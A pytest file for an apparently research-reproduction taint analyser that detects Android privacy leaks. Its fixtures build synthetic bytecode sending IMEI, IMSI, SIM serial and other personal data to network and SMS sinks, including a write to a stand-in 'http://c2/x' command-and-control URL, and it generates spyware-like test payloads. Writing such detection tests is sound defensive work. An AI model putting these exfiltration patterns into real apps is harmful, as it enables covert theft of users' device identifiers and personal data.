"""Tests for the FlowDroid-style privacy taint analysis."""

import pytest

from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.corpus.behaviors import privacy_payload_dex
from repro.static_analysis.privacy.flowdroid import analyze_dex
from repro.static_analysis.privacy.sources import DATA_TYPES, api_source_for, uri_source_for

import random


def _single_method_dex(body, name="run", class_name="t.Payload", arity=1):
    cls = class_builder(class_name)
    b = MethodBuilder(name, class_name, arity=arity)
    body(b)
    b.ret_void()
    cls.add_method(b.build())
    return DexFile(classes=[cls])


def _leak_types(dex):
    return {leak.data_type for leak in analyze_dex(dex)}


class TestDirectFlows:
    def test_imei_to_network(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            url = b.new_instance_of("java.net.URL", b.new_string("http://c2/x"))
            conn = b.call_virtual("java.net.URL", "openConnection", url)
            out = b.call_virtual("java.net.URLConnection", "getOutputStream", conn)
            b.call_void("java.io.OutputStream", "write", out, imei)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_source_without_sink_is_clean(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)

        assert _leak_types(_single_method_dex(body)) == set()

    def test_sink_without_source_is_clean(self):
        def body(b):
            b.call_void("android.util.Log", "d", b.new_string("t"), b.new_string("benign"))

        assert _leak_types(_single_method_dex(body)) == set()

    def test_location_to_log(self):
        def body(b):
            lm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("location")
            )
            loc = b.call_virtual(
                "android.location.LocationManager", "getLastKnownLocation", lm, b.new_string("gps")
            )
            b.call_void("android.util.Log", "d", b.new_string("t"), loc)

        assert _leak_types(_single_method_dex(body)) == {"Location"}

    def test_sms_sink(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            sms = b.call_static("android.telephony.SmsManager", "getDefault")
            null = b.new_null()
            b.call_void(
                "android.telephony.SmsManager", "sendTextMessage",
                sms, b.new_string("+1"), null, imsi, null, null,
            )

        leaks = analyze_dex(_single_method_dex(body))
        assert {(l.data_type, l.channel) for l in leaks} == {("IMSI", "sms")}


class TestTaintPropagation:
    def test_through_string_concat(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            blob = b.call_static("java.lang.String", "concat", b.new_string("id="), imei)
            b.call_void("android.util.Log", "d", b.new_string("t"), blob)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_through_fields(self):
        class_name = "t.Holder"
        cls = class_builder(class_name)
        store = MethodBuilder("store", class_name, arity=1)
        tm = store.call_virtual(
            "android.content.Context", "getSystemService", store.arg(0), store.new_string("phone")
        )
        imei = store.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
        store.put_static(imei, class_name, "cachedId")
        store.ret_void()
        cls.add_method(store.build())
        emit = MethodBuilder("emit", class_name, arity=1)
        value = emit.get_static(class_name, "cachedId")
        emit.call_void("android.util.Log", "d", emit.new_string("t"), value)
        emit.ret_void()
        cls.add_method(emit.build())
        assert _leak_types(DexFile(classes=[cls])) == {"IMEI"}

    def test_interprocedural_return_flow(self):
        class_name = "t.Inter"
        cls = class_builder(class_name)
        getter = MethodBuilder("readId", class_name, arity=1)
        tm = getter.call_virtual(
            "android.content.Context", "getSystemService", getter.arg(0), getter.new_string("phone")
        )
        imei = getter.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
        getter.ret(imei)
        cls.add_method(getter.build())
        user = MethodBuilder("use", class_name, arity=1)
        value = user.call_virtual(class_name, "readId", user.arg(0))
        user.call_void("android.util.Log", "d", user.new_string("t"), value)
        user.ret_void()
        cls.add_method(user.build())
        assert _leak_types(DexFile(classes=[cls])) == {"IMEI"}

    def test_interprocedural_param_flow_to_sink(self):
        class_name = "t.Inter2"
        cls = class_builder(class_name)
        sink = MethodBuilder("upload", class_name, arity=2, is_static=True)
        b = sink
        url = b.new_instance_of("java.net.URL", b.new_string("http://x/up"))
        conn = b.call_virtual("java.net.URL", "openConnection", url)
        b.call_void("java.net.URLConnection", "setRequestProperty", conn, b.new_string("k"), b.arg(1))
        b.ret_void()
        cls.add_method(sink.build())
        caller = MethodBuilder("go", class_name, arity=1)
        tm = caller.call_virtual(
            "android.content.Context", "getSystemService", caller.arg(0), caller.new_string("phone")
        )
        iccid = caller.call_virtual("android.telephony.TelephonyManager", "getSimSerialNumber", tm)
        caller.call_void(class_name, "upload", caller.new_null(), iccid)
        caller.ret_void()
        cls.add_method(caller.build())
        assert _leak_types(DexFile(classes=[cls])) == {"ICCID"}

    def test_every_method_is_an_entry_point(self):
        # Leaks in a method no other method calls are still found -- the
        # paper's FlowDroid modification for loaded code.
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            number = b.call_virtual("android.telephony.TelephonyManager", "getLine1Number", tm)
            b.call_void("android.util.Log", "d", b.new_string("t"), number)

        dex = _single_method_dex(body, name="orphanedHandler")
        assert _leak_types(dex) == {"Phone number"}


class TestContentProviderSources:
    def test_contacts_query(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            uri = b.get_static("android.provider.ContactsContract$Contacts", "CONTENT_URI")
            cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
            b.call_virtual("android.database.Cursor", "moveToNext", cursor)
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == {"Contact"}

    def test_uri_string_literal_also_resolves(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            cursor = b.call_virtual(
                "android.content.ContentResolver", "query", resolver, b.new_string("content://sms")
            )
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == {"SMS"}

    def test_insensitive_uri_is_clean(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            cursor = b.call_virtual(
                "android.content.ContentResolver", "query", resolver, b.new_string("content://weather")
            )
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == set()


class TestPayloadTemplates:
    def test_payload_generator_covers_all_18_types(self):
        rng = random.Random(0)
        for data_type in DATA_TYPES:
            dex = privacy_payload_dex(rng, "com.vendor.x", [data_type])
            assert data_type in _leak_types(dex), data_type

    def test_multi_type_payload(self):
        rng = random.Random(1)
        dex = privacy_payload_dex(rng, "com.vendor.y", ["IMEI", "Calendar", "Settings"])
        assert _leak_types(dex) == {"IMEI", "Calendar", "Settings"}

    def test_empty_payload_clean(self):
        rng = random.Random(2)
        dex = privacy_payload_dex(rng, "com.vendor.z", [])
        assert _leak_types(dex) == set()

    def test_unknown_type_rejected(self):
        with pytest.raises(KeyError):
            privacy_payload_dex(random.Random(0), "com.v", ["Fingerprint"])


class TestCatalogues:
    def test_api_source_lookup(self):
        source = api_source_for("android.telephony.TelephonyManager", "getDeviceId")
        assert source.data_type == "IMEI" and source.category == "PI"
        assert api_source_for("android.telephony.TelephonyManager", "toString") is None

    def test_uri_source_lookup(self):
        assert uri_source_for("content://calendar").data_type == "Calendar"
        assert uri_source_for(None) is None
        assert uri_source_for("content://nope") is None

    def test_leak_rendering(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            b.call_void("android.util.Log", "d", b.new_string("t"), imei)

        leaks = analyze_dex(_single_method_dex(body))
        assert "IMEI -> android.util.Log.d [log]" in str(leaks[0])

    def test_analysis_deterministic_ordering(self):
        rng = random.Random(3)
        dex = privacy_payload_dex(rng, "com.vendor.multi", ["IMEI", "IMSI", "Location"])
        assert analyze_dex(dex) == analyze_dex(dex)


class TestEdgeCases:
    def test_array_propagation(self):
        # stream-read into a buffer taints the buffer (ARG_TO_ARG rule),
        # and aget out of it keeps the taint.
        def body(b):
            from repro.android import bytecode as bc

            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            size = b.new_int(16)
            arr = b.reg()
            b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (arr, size)))
            idx = b.new_int(0)
            b.emit(bc.Instruction(bc.Op.APUT, (imei, arr, idx)))
            out = b.reg()
            b.emit(bc.Instruction(bc.Op.AGET, (out, arr, idx)))
            b.call_void("android.util.Log", "d", b.new_string("t"), out)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_sink_position_sensitivity(self):
        # Log.d leaks at positions 0/1; SmsManager.sendTextMessage only at
        # the destination/body positions -- a tainted *service center* (arg
        # position 2) is not a leak.
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            sms = b.call_static("android.telephony.SmsManager", "getDefault")
            null = b.new_null()
            # logical args: [sms, dest, serviceCenter, text, x, y]
            b.call_void(
                "android.telephony.SmsManager", "sendTextMessage",
                sms, b.new_string("+1"), imsi, b.new_string("benign"), null, null,
            )

        assert _leak_types(_single_method_dex(body)) == set()

    def test_binop_merges_taint(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            mixed = b.binop("xor", imei, b.new_int(7))
            b.call_void("android.util.Log", "d", b.new_string("t"), mixed)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_mutual_recursion_terminates(self):
        # a <-> b recursive summaries must converge within the round cap.
        cls = class_builder("t.Rec")
        a = MethodBuilder("a", "t.Rec", arity=1, is_static=True)
        va = a.call_static("t.Rec", "b", a.arg(0))
        a.ret(va)
        cls.add_method(a.build())
        b = MethodBuilder("b", "t.Rec", arity=1, is_static=True)
        vb = b.call_static("t.Rec", "a", b.arg(0))
        b.ret(vb)
        cls.add_method(b.build())
        assert analyze_dex(DexFile(classes=[cls])) == []

    def test_two_sources_one_sink(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            both = b.call_static("java.lang.String", "concat", imei, imsi)
            b.call_void("android.util.Log", "d", b.new_string("t"), both)

        assert _leak_types(_single_method_dex(body)) == {"IMEI", "IMSI"}

    def test_try_catch_does_not_kill_taint(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            b.try_start("h", "java.io.IOException")
            b.call_void("android.util.Log", "d", b.new_string("t"), imei)
            b.try_end()
            b.label("h")

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}
